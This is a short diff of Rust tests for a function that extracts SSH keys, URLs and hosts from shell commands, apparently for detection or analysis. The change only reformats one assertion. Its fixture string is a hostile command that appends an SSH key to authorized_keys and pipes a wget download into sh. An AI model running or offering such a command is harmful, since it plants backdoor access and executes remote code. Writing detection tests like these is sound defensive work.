@@ -67,10 +67,7 @@ mod tests {
     fn authors_are_named_by_keys_links_and_hosts() {
         let blob = "A".repeat(68);
         let command = format!("echo \"ssh-ed25519 {blob} me@x\" >> ~/.ssh/authorized_keys; wget http://u:p@203.0.113.7:8080/a.sh -O- | sh");
-        assert_eq!(
-            indicators(&command),
-            [Indicator::Key(blob.as_str()), Indicator::Url("http://u:p@203.0.113.7:8080/a.sh"), Indicator::Host("203.0.113.7")]
-        );
+        assert_eq!(indicators(&command), [Indicator::Key(blob.as_str()), Indicator::Url("http://u:p@203.0.113.7:8080/a.sh"), Indicator::Host("203.0.113.7")]);
         assert_eq!(indicators(&format!("ecdsa-sha2-nistp256 {blob}")), [Indicator::Key(blob.as_str())]);
         assert_eq!(indicators("ssh-rsa AAAA; http:// x; https://"), []);
         assert_eq!(host("http://[2001:db8::1]:80/x"), Some("2001:db8::1"));
